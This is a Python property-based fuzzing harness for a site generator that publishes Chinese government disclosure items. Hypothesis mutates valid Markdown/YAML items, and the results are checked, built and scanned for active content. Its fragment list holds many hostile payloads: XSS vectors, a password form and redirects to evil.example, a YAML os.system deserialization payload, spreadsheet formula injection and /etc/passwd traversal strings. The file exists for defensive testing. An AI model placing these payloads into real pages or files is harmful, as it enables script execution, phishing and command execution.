"""Property-based fuzzing of the checker and the build: mutants of valid items, checked, built and scanned.

Mutants start from items that pass (tests/examples/pass, conftest.BASE_ITEMS)
and a content page. Hypothesis inserts fragments of the attack corpus and
random text (control characters, markup punctuation, YAML syntax, CJK) into
the title, other fields and the text, rewrites values in every YAML style, and
changes the structure of the front matter (lines dropped, doubled, indented,
nested, the closing fence removed) or the bytes of the file.

Each mutant is written into one repository (a copy of the sample content) at
its own path with its own index number, and checked in process with
``load_repository``; every twentieth also through the CLI (``check --format
json``). No exception may escape, ``check-failed`` must never appear, a check
must take under 10 s of CPU time, and the CLI must print JSON and exit 0 or 1 as the
in-process check decided. Rejected mutants are removed again; the accepted
ones stay, so one ``mkdocs build`` per batch builds all of them, and the site
is scanned by tests/activecontent.py.

``tests/test_fuzz.py`` runs a few hundred cases with a fixed seed; ``make fuzz
N=…`` runs this file (``python tests/fuzzing.py --cases N``), in batches of
1,000 per build, prints the figures and exits 1 unless each failure figure is 0.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import traceback
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

import yaml
from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

TESTS = Path(__file__).resolve().parent
if str(TESTS) not in sys.path:
    sys.path.insert(0, str(TESTS))

from activecontent import Baseline, scan_site  # noqa: E402
from conftest import BASE_ITEMS, PROJECT, TODAY  # noqa: E402
from sitebuild import build_env, copy_repository, output_of, run_build, site_url  # noqa: E402

from generator.check.repository import load_repository  # noqa: E402
from generator.problems import ERROR  # noqa: E402

CHECK_LIMIT = 10.0           # CPU seconds one check may take (CPU time, so that a busy machine is no hang)
WAIT_LIMIT = 60.0            # wall seconds, for a check that blocks without using the CPU
SERIAL = "⟪S⟫"               # stands for the mutant's five-digit serial in its index number
FIRST_SERIAL = 10001         # far above the sample content's serials

# -- seeds: valid items ---------------------------------------------------------------------------

_INDEX_LINE = re.compile(r"^((?:索引号|index_no)[ \t]*:[ \t]*[\"']?[0-9A-Z]+/\d{4}-)\d{5}", re.M)


@dataclass(frozen=True)
class Seed:
    """A valid item or page: its text with the serial marked, and the folder mutants of it go to."""

    name: str
    text: str
    folder: str          # content/<unit>/<year> or content/pages

    def path(self, serial: int) -> str:
        return f"{self.folder}/fuzz-{serial}.md"


# An item with an attachment and an image of the sample content (content/czj/2026/): their titles and
# addresses are places to put things too. Usable only where those files exist.
WITH_FILES = f"""---
标题: 示例市财政局2026年预算执行情况
公开类别: 财政预算、决算信息
发布机构: 示例市财政局
索引号: 11159900K900000769/2026-{SERIAL}
成文日期: 2026-03-02
发布日期: 2026-03-05
内容概述: 公开2026年预算执行情况，附预算表。
主题词: [预算, 执行]
附件:
  - path: budget-2026.pdf
    title: 2026年市级财政预算表
保密审查:
  reviewer: 李四
  date: 2026-03-04
---

预算执行情况如下，[预算表](budget-2026.pdf)另附。

![2025年收入构成图](chart-2025.png)
"""


def all_seeds() -> list[Seed]:
    """Every known-good item that needs no file beside it, one with files of the sample content, a page."""
    spec = yaml.safe_load((TESTS / "examples" / "expectations.yml").read_text(encoding="utf-8"))["pass"]
    found = []
    for name, entry in sorted(spec.items()):
        if entry.get("files") or entry.get("transform"):
            continue
        text = (TESTS / "examples" / "pass" / name).read_text(encoding="utf-8")
        found.append(Seed(name, _INDEX_LINE.sub(lambda m: m.group(1) + SERIAL, text),
                          entry["as"].rsplit("/", 1)[0]))
    found.append(Seed("with-files", WITH_FILES, "content/czj/2026"))
    for rel, text in sorted(BASE_ITEMS.items()):
        if rel.startswith("content/pages/"):
            found.append(Seed(rel, text, "content/pages"))
        else:
            found.append(Seed(rel, _INDEX_LINE.sub(lambda m: m.group(1) + SERIAL, text), rel.rsplit("/", 1)[0]))
    return found


def usable_seeds(root: Path) -> list[Seed]:
    """The seeds that pass unchanged in the repository at ``root`` (some link to files only the examples have)."""
    usable = []
    for n, candidate in enumerate(all_seeds()):
        rel = candidate.path(99000 + n)
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(candidate.text.replace(SERIAL, f"{99000 + n:05d}"), encoding="utf-8")
        try:
            repo = load_repository(root, today=TODAY, select={rel})
        finally:
            path.unlink()
        if not [p for p in repo.problems if p.severity == ERROR]:
            usable.append(candidate)
    return usable


# -- what goes in ----------------------------------------------------------------------------------

CONTROL = ("\x00\x01\x07\x08\t\x0b\x0c\r\x0e\x1b\x1f\x7f\x80\x85\x9f\xa0\xad\u061c\u200b\u200d\u200e\u2028\u2029"
           "\u202a\u202e\u2060\u2066\u2069\u3000\ufeff\ufffe\uffff\U0001f600\U000e0041")
MARKUP = "<>&\"'`=/\\[](){}!#*_~|:-.+@;%?$^"
YAML_SYNTAX = ":-?|>&*!%@`'\"#,[]{}\t\n "
CJK = "示例市财政局预算公开通知第一二三年月日号〔〕：，。“”（）《》、；！？"
ALPHABET = st.one_of(st.sampled_from(CONTROL + MARKUP + YAML_SYNTAX + CJK + "azAZ09\n"),
                     st.characters(exclude_categories=("Cs",)))

FRAGMENTS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script>",
    '{: onclick="alert(1)" }', "{#__search}", "{: #__drawer .md-header }", "{: style=\"background:url(javascript:alert(1))\" }",
    "[x](<javascript:alert(1)>)", "[x][r]\n\n[r]: javascript:alert(1)", "[x](javascript&colon;alert(1))",
    '<a href="javascript&colon;alert(1)">x</a>', '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>', '<a href=" &#14;javascript:alert(1)">x</a>',
    "[x](data:text/html,<script>alert(1)</script>)", '<a href="vbscript:msgbox(1)">x</a>',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="9">x</text></a></svg>',
    '<base href="//evil.example/">', '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<form action="//evil.example/"><input type="password" name="p"><button>登录</button></form>',
    "<style>*{display:none}</style>", '<link rel="stylesheet" href="//evil.example/x.css">',
    "<iframe src=//evil.example/></iframe>", "<object data=x.swf></object>", "<embed src=x.swf>",
    "![图](https://evil.example/t.png)", "![图](//evil.example/t.png)", '<img src="chart.png" alt="图" onload="alert(1)">',
    '<img src="x.png" srcset="javascript:alert(1) 2x" alt="图">', '<p style="background:url(javascript:alert(1))">x</p>',
    '<table><tr><td onclick="alert(1)" style="text-align:left;background:url(x)">x</td></tr></table>',
    '<div markdown="1">**x** <script>alert(1)</script></div>', "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    '!!! note "<img src=x onerror=alert(1)>"\n    正文', "```html\n<script>alert(1)</script>\n```", "`<script>`",
    "<!-- <script>alert(1)</script> -->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1; ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#0;", "&#xD800;", "&#x202E;", "&NewLine;", "&amp;lt;",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>", '<a href="#" id="__config">x</a>', '<span id="dc-main">x</span>',
    '<a href="https://example.com/" target="_blank" rel="opener">x</a>', "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
    '"><script>alert(1)</script>', "'-alert(1)-'", "</article></div><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "{{ config }}", "{% include 'x' %}", "${7*7}", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")",
    "+1+1", "-1", "@SUM(1)", "\t=1", "\r=1", "---", "...", "%YAML 1.1", "!!python/object/apply:os.system [id]",
    "!!binary aGk=", "&a x", "*a", "<<: *a", "? complex", "- item", "[a, b", "{a: b}", '"unterminated', "'", "|", ">-",
    "#", ": ", " # 注释", "\n", "\r\n", "\ufeff", "11010519491231002X", "13812345678", "6222080479001234569",
    "2026-02-30", "2026-13-01", "2026-01-45", "9999-12-31", "2026年2月30日", "示例财发〔2026〕3号", "示例财发[2026]03号",
    "../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "..\\..\\x", "%2e%2e/%2e%2e/", "content/x", "</p>", "<p",
    "<", ">", "&", "待填写", "11159900K900000769/2026-00001", "[链接](base-budget.md)", "[链接](../../pages/guide.md)",
    "[x](#a)", "<a name=__search>x</a>", "***", "> 引用", "1. 列表", "    代码", "# 标题", "## " + "x" * 200,
]


def corpus_fragments() -> list[str]:
    """The texts of the attack corpus (tests/attacks/), characters expanded (the big ones left out: op_repeat)."""
    found = []
    for path in sorted((TESTS / "attacks").glob("*.md")):
        text = path.read_text(encoding="utf-8")
        if re.search(r"⟪(?!U\+)", text):
            continue
        text = re.sub(r"⟪U\+([0-9A-F]{4})⟫", lambda m: chr(int(m.group(1), 16)), text)
        body = text.split("\n---\n", 1)[-1].strip()
        if body:
            found.append(body)
    return found


def field_names() -> list[str]:
    data = yaml.safe_load((PROJECT / "categories.yml").read_text(encoding="utf-8"))
    return sorted({name for f in data["fields"] for name in (f["key"], f.get("label"), *(f.get("aliases") or []))
                   if name})


PAYLOADS = FRAGMENTS + corpus_fragments()
FIELDS = field_names()
payload = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(ALPHABET, max_size=40),
    st.lists(st.one_of(st.sampled_from(PAYLOADS), st.text(ALPHABET, max_size=12)), min_size=1, max_size=4).map("".join),
)


# -- mutations ------------------------------------------------------------------------------------

def _split(text: str) -> tuple[list[str], str] | None:
    """Front-matter lines and the rest (from the closing fence on), or None when there is no front matter."""
    lines = text.split("\n")
    if not lines or lines[0].strip() != "---":
        return None
    for n in range(1, len(lines)):
        if lines[n].strip() in ("---", "..."):
            return lines[1:n], "\n".join(lines[n:])
    return None


def _join(head: list[str], rest: str) -> str:
    return "\n".join(["---", *head, rest])


def _body_of(text: str):
    """(body, rejoin): the text after the front matter, and a function that puts a new body in its place."""
    split = _split(text)
    if split is None:
        return text, lambda body: body
    head, rest = split
    fence = rest.find("\n") + 1
    return rest[fence:], lambda body: _join(head, rest[:fence] + body)


_KEY_LINE = re.compile(r"^(\s*(?:- +)?[^\s#:\-][^:]*):(.*)$")     # top-level and nested (review, attachments)


def yaml_value(draw, text: str) -> str:
    """``text`` as a YAML value in one of YAML's styles, or raw."""
    style = draw(st.sampled_from(["raw", "double", "double-ascii", "single", "literal", "folded", "flow"]))
    if style == "raw":
        return " " + text
    if style.startswith("double"):
        return " " + json.dumps(text, ensure_ascii=style == "double-ascii")
    if style == "single":
        return " '" + text.replace("'", "''") + "'"
    if style == "flow":
        return " [" + json.dumps(text, ensure_ascii=False) + ", " + text + "]"
    indicator = "|" if style == "literal" else ">-"
    return " " + indicator + "\n" + "\n".join("  " + line for line in text.split("\n"))


def _key_lines(head: list[str]) -> list[int]:
    return [n for n, line in enumerate(head) if _KEY_LINE.match(line)]


def op_value(draw, text: str) -> str:
    """Replace a field's value (the title most often), or put the payload into it."""
    split = _split(text)
    if split is None:
        return text
    head, rest = split
    keys = _key_lines(head)
    if not keys:
        return text
    titles = [n for n in keys if _KEY_LINE.match(head[n]).group(1).strip() in ("标题", "title", "名称")]
    n = draw(st.sampled_from(titles)) if titles and draw(st.booleans()) else draw(st.sampled_from(keys))
    key, value = _KEY_LINE.match(head[n]).groups()
    new = draw(payload)
    if draw(st.booleans()):
        at = draw(st.integers(0, len(value)))
        head[n] = f"{key}:{value[:at]}{new}{value[at:]}"
    else:
        head[n] = f"{key}:{yaml_value(draw, new)}"
    return _join(head, rest)


def op_add_field(draw, text: str) -> str:
    split = _split(text)
    if split is None:
        return text
    head, rest = split
    key = draw(st.one_of(st.sampled_from(FIELDS), st.text(ALPHABET, min_size=1, max_size=8)))
    at = draw(st.integers(0, len(head)))
    head.insert(at, f"{key}:{yaml_value(draw, draw(payload))}")
    return _join(head, rest)


def op_body(draw, text: str) -> str:
    """Insert a payload into the text (after the front matter), on a line of its own or inside a line."""
    body, rejoin = _body_of(text)
    new = draw(payload)
    at = draw(st.integers(0, len(body)))
    if draw(st.booleans()):
        new = "\n\n" + new + "\n\n"
    return rejoin(body[:at] + new + body[at:])


def op_raw_line(draw, text: str) -> str:
    """A raw line in the front matter: YAML syntax, a fragment, anything."""
    split = _split(text)
    if split is None:
        return text
    head, rest = split
    at = draw(st.integers(0, len(head)))
    line = draw(payload).replace("\n", " ")
    if draw(st.booleans()) and at < len(head):
        head[at] = line
    else:
        head.insert(at, line)
    return _join(head, rest)


def op_structure(draw, text: str) -> str:
    """Change the shape of the front matter: lines dropped, doubled, indented or swapped, values nested."""
    split = _split(text)
    if split is None:
        return text
    head, rest = split
    if not head:
        return text
    n = draw(st.integers(0, len(head) - 1))
    kind = draw(st.sampled_from(["drop", "double", "indent", "swap", "nest", "list", "map", "block-list",
                                 "unclose", "second-fence", "empty-value", "tab"]))
    key_match = _KEY_LINE.match(head[n])
    if kind == "drop":
        del head[n]
    elif kind == "double":
        head.insert(n, head[n])
    elif kind == "indent":
        head[n] = " " * draw(st.integers(1, 6)) + head[n]
    elif kind == "tab":
        head[n] = "\t" + head[n]
    elif kind == "swap":
        m = draw(st.integers(0, len(head) - 1))
        head[n], head[m] = head[m], head[n]
    elif kind == "unclose":
        return "\n".join(["---", *head]) + "\n" + rest.split("\n", 1)[-1]
    elif kind == "second-fence":
        head.insert(n, "---")
    elif key_match:
        key, value = key_match.groups()
        value = value.strip() or "x"
        if kind == "nest":
            depth = draw(st.integers(1, 30))
            head[n] = f"{key}: " + "[" * depth + value + "]" * depth
        elif kind == "list":
            head[n] = f"{key}: [{value}, {draw(payload)}]"
        elif kind == "map":
            head[n] = f"{key}: {{{draw(payload)}: {value}}}"
        elif kind == "block-list":
            head[n] = f"{key}:\n  - {value}\n  -{yaml_value(draw, draw(payload))}"
        elif kind == "empty-value":
            head[n] = f"{key}:"
    return _join(head, rest)


def op_repeat(draw, text: str) -> str:
    """A fragment repeated hundreds or thousands of times in the text: parsers that are quadratic show here."""
    body, rejoin = _body_of(text)
    unit = draw(st.one_of(st.sampled_from(PAYLOADS), st.text(ALPHABET, min_size=1, max_size=6)))
    if draw(st.booleans()):
        unit += "\n"
    new = unit * draw(st.integers(2, max(2, 60_000 // len(unit))))
    at = draw(st.integers(0, len(body)))
    return rejoin(body[:at] + new + body[at:])


OPERATIONS = [op_value, op_value, op_body, op_body, op_add_field, op_raw_line, op_structure, op_repeat]


@st.composite
def mutants(draw, seeds: list[Seed]) -> tuple[Seed, bytes, list[str]]:
    """(seed, the mutant's bytes with the serial marker, the names of the operations applied)."""
    chosen = draw(st.sampled_from(seeds))
    text, applied = chosen.text, []
    for _ in range(draw(st.integers(1, 4))):
        operation = draw(st.sampled_from(OPERATIONS))
        text = operation(draw, text)
        applied.append(operation.__name__)
    data = text.encode("utf-8", errors="surrogatepass")
    if draw(st.integers(0, 19)) == 0:      # now and then the bytes themselves: a BOM, CRLF, invalid UTF-8
        kind = draw(st.sampled_from(["bom", "crlf", "cr", "bytes"]))
        if kind == "bom":
            data = b"\xef\xbb\xbf" + data
        elif kind == "crlf":
            data = data.replace(b"\n", b"\r\n")
        elif kind == "cr":
            data = data.replace(b"\n", b"\r")
        else:
            at = draw(st.integers(0, len(data)))
            data = data[:at] + draw(st.binary(min_size=1, max_size=4)) + data[at:]
        applied.append(kind)
    return chosen, data, applied


# -- one run: check every mutant, build the accepted ones, scan ------------------------------------

class Hang(BaseException):
    """A check over the time limit (a BaseException, so that the checker's own except clauses let it through)."""


@dataclass
class Failure:
    kind: str          # traceback, hang, cli, unbuildable, active-content
    path: str
    detail: str
    data: bytes = b""


@dataclass
class Mutant:
    path: str
    data: bytes
    seed: str
    operations: list


@dataclass
class FuzzRun:
    """Mutants checked one by one in the repository at ``root`` (accepted ones stay), then built together."""

    root: Path
    cli_every: int = 20
    strict: bool = False          # raise at the first failure (pytest: hypothesis then shrinks the mutant)
    serial: int = FIRST_SERIAL
    figures: Counter = field(default_factory=Counter)
    failures: list = field(default_factory=list)
    accepted: dict = field(default_factory=dict)     # path -> Mutant

    def fail(self, kind: str, mutant: Mutant, detail: str) -> None:
        self.figures[kind] += 1
        self.failures.append(Failure(kind, mutant.path, detail, mutant.data))
        if self.strict:
            raise AssertionError(f"{kind} for {mutant.path} (from {mutant.seed}, {mutant.operations}):\n{detail}\n"
                                 f"file: {mutant.data[:3000]!r}")

    def check(self, chosen: Seed, data: bytes, operations: list) -> None:
        """Check one mutant in process (and now and then through the CLI); keep it when it is accepted."""
        serial = self.serial
        self.serial += 1
        rel = chosen.path(serial)
        mutant = Mutant(rel, data.replace(SERIAL.encode(), f"{serial:05d}".encode()), chosen.name, operations)
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(mutant.data)
        self.figures["cases"] += 1
        verdict = None
        try:
            verdict = self._in_process(mutant)
            if verdict is not None and self.figures["cases"] % self.cli_every == 0:
                self._through_cli(mutant, verdict)
        finally:        # only accepted mutants stay in the repository, also when a strict run stops here
            if verdict == "accepted":
                self.accepted[rel] = mutant
                self.figures["accepted"] += 1
            else:
                path.unlink()
                self.figures["rejected"] += verdict == "rejected"

    def _in_process(self, mutant: Mutant) -> str | None:
        def timeout(signum, frame):
            raise Hang()

        previous = signal.signal(signal.SIGALRM, timeout), signal.signal(signal.SIGPROF, timeout)
        signal.setitimer(signal.ITIMER_PROF, CHECK_LIMIT)
        signal.setitimer(signal.ITIMER_REAL, WAIT_LIMIT)
        started = time.process_time()
        try:
            repo = load_repository(self.root, today=TODAY, select={mutant.path})
        except Hang:
            self.fail("hangs", mutant, f"the check took more than {CHECK_LIMIT:.0f} CPU s or {WAIT_LIMIT:.0f} s")
            return None
        except Exception:       # noqa: BLE001 - any exception escaping the checker is the finding
            self.fail("tracebacks", mutant, traceback.format_exc())
            return None
        finally:
            signal.setitimer(signal.ITIMER_PROF, 0)
            signal.setitimer(signal.ITIMER_REAL, 0)
            signal.signal(signal.SIGALRM, previous[0])
            signal.signal(signal.SIGPROF, previous[1])
        seconds = time.process_time() - started
        if seconds > CHECK_LIMIT:
            self.fail("hangs", mutant, f"the check took {seconds:.1f} CPU s")
        crashed = [p for p in repo.problems if p.code == "check-failed"]
        if crashed:
            self.fail("tracebacks", mutant, f"check-failed: {crashed[0].message}")
            return None
        return "rejected" if repo.errors else "accepted"

    def _through_cli(self, mutant: Mutant, verdict: str) -> None:
        cmd = [sys.executable, "-m", "generator", "check", "--format", "json", mutant.path]
        self.figures["cli runs"] += 1
        try:
            result = subprocess.run(cmd, cwd=self.root, env=build_env(), capture_output=True, text=True,
                                    timeout=WAIT_LIMIT)
        except subprocess.TimeoutExpired:
            self.fail("hangs", mutant, "the CLI check did not finish")
            return
        try:
            problems = json.loads(result.stdout)
            valid = isinstance(problems, list)
        except ValueError:
            valid = False
        if result.returncode not in (0, 1) or "Traceback" in result.stderr or not valid:
            self.fail("tracebacks", mutant, f"CLI exit {result.returncode}:\n{output_of(result)[-3000:]}")
        elif result.returncode != (verdict == "rejected"):
            self.fail("cli disagreements", mutant, f"CLI exit {result.returncode}, in process {verdict}")

    def build_and_scan(self, baseline: Baseline) -> None:
        """Build the repository with every accepted mutant in it and scan the whole site."""
        if not self.accepted:
            return
        result = run_build(self.root)
        self.figures["builds"] += 1
        if result.returncode != 0:
            for rel in self._culprits():
                self.fail("accepted but unbuildable", self.accepted[rel], output_of(result)[-3000:])
            return
        site = self.root / "site"
        for rel, mutant in sorted(self.accepted.items()):
            page = site / rel.removeprefix("content/").removesuffix(".md") / "index.html"
            if not page.is_file():
                self.fail("accepted but unbuildable", mutant, f"no page {page.relative_to(site)}")
        for finding in scan_site(site, baseline):
            match = re.search(r"(?:^|/)(fuzz-\d+)/", finding.path)
            owner = next((m for rel, m in self.accepted.items() if match and f"/{match.group(1)}.md" in rel), None)
            self.fail("active-content findings", owner or Mutant(finding.path, b"", "-", []), str(finding))

    def _culprits(self) -> list[str]:
        """The accepted mutants that break the build: those the whole-repository check refuses (a rule across
        files), else one found by halving the set (each half built with the sample content alone)."""
        repo = load_repository(self.root, today=TODAY)
        refused = sorted({p.path for p in repo.errors} & set(self.accepted))
        if refused:
            return refused
        aside = self.root.parent / (self.root.name + "-aside")
        aside.mkdir(exist_ok=True)

        def builds(subset: list[str]) -> bool:
            for rel in self.accepted:
                source, parked = self.root / rel, aside / rel.replace("/", "__")
                if rel in subset and parked.exists():
                    parked.rename(source)
                elif rel not in subset and source.exists():
                    source.rename(parked)
            self.figures["builds"] += 1
            return run_build(self.root).returncode == 0

        suspects = sorted(self.accepted)
        while len(suspects) > 1:
            half, other = suspects[: len(suspects) // 2], suspects[len(suspects) // 2:]
            if not builds(half):
                suspects = half
            elif not builds(other):
                suspects = other
            else:
                break           # only a combination fails: all of this set are named
        builds(sorted(self.accepted))
        shutil.rmtree(aside, ignore_errors=True)
        return suspects


def run_batch(run: FuzzRun, seeds: list[Seed], cases: int, seed_value: int, shrink: bool) -> None:
    """``cases`` hypothesis examples with a fixed seed and no example database (nothing is written anywhere)."""
    phases = (Phase.generate, Phase.shrink) if shrink else (Phase.generate,)

    @seed(seed_value)
    @settings(max_examples=cases, database=None, deadline=None, derandomize=False, phases=phases,
              suppress_health_check=list(HealthCheck), print_blob=False)
    @given(mutants(seeds))
    def fuzz(mutant) -> None:
        run.check(*mutant)

    fuzz()


# -- make fuzz ---------------------------------------------------------------------------------------

FAILURE_FIGURES = ("tracebacks", "hangs", "accepted but unbuildable", "active-content findings", "cli disagreements")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Fuzz check and build with mutants of valid items.")
    parser.add_argument("--cases", type=int, default=10_000)
    parser.add_argument("--batch", type=int, default=1_000, help="mutants per build")
    parser.add_argument("--seed", type=int, default=int(os.environ.get("FUZZ_SEED", random.randrange(2**31))))
    parser.add_argument("--out", type=Path, help="folder for the failing mutants (default: a temporary folder)")
    args = parser.parse_args(argv)
    started = time.perf_counter()
    work = Path(tempfile.mkdtemp(prefix="fuzz-"))
    out = args.out or work / "failures"
    total, failures = Counter(), []
    try:
        base = copy_repository(work / "baseline")
        result = run_build(base)
        if result.returncode != 0:
            print(output_of(result), file=sys.stderr)
            return 2
        baseline = Baseline.of_site(base / "site", site_url(base))
        seeds = usable_seeds(base)
        print(f"fuzz: seed {args.seed}, {len(seeds)} seed items, {args.cases} cases in batches of {args.batch}",
              flush=True)
        batch = 0
        while total["cases"] < args.cases:
            root = copy_repository(work / f"batch-{batch}" / "repo")
            run = FuzzRun(root)
            run_batch(run, seeds, min(args.batch, args.cases - total["cases"]), args.seed + batch, shrink=False)
            run.build_and_scan(baseline)
            total.update(run.figures)
            failures += run.failures
            print(f"  batch {batch + 1}: {run.figures['cases']} cases, {run.figures['accepted']} accepted and built, "
                  f"{sum(run.figures[k] for k in FAILURE_FIGURES)} failures ({time.perf_counter() - started:.0f} s)",
                  flush=True)
            shutil.rmtree(root.parent, ignore_errors=True)
            batch += 1
    finally:
        if failures:
            out.mkdir(parents=True, exist_ok=True)
            for n, failure in enumerate(failures):
                stem = f"{n:04d}-{failure.kind.replace(' ', '-')}"
                (out / f"{stem}.md").write_bytes(failure.data)
                (out / f"{stem}.txt").write_text(f"{failure.path}\n{failure.detail}\n", encoding="utf-8")
        for item in work.iterdir():
            if item != out:
                shutil.rmtree(item, ignore_errors=True)
    seconds = time.perf_counter() - started
    print(f"\nfuzz: {total['cases']} cases, seed {args.seed}, {seconds:.0f} s")
    for name in ("tracebacks", "hangs", "accepted but unbuildable", "active-content findings"):
        label = "hangs > 10 s" if name == "hangs" else name
        print(f"  {label + ':':28} {total[name]}")
    print(f"  {'cli disagreements:':28} {total['cli disagreements']} (of {total['cli runs']} CLI runs)")
    print(f"  {'accepted, built, scanned:':28} {total['accepted']}")
    print(f"  {'rejected by check:':28} {total['rejected']}")
    print(f"  {'builds:':28} {total['builds']}")
    if failures:
        print(f"\nfailing mutants: {out}")
        for failure in failures[:10]:
            print(f"  {failure.kind}: {failure.path}: {failure.detail.strip().splitlines()[-1][:200]}")
    else:
        shutil.rmtree(work, ignore_errors=True)
    return 1 if any(total[name] for name in FAILURE_FIGURES) else 0


if __name__ == "__main__":
    sys.exit(main())
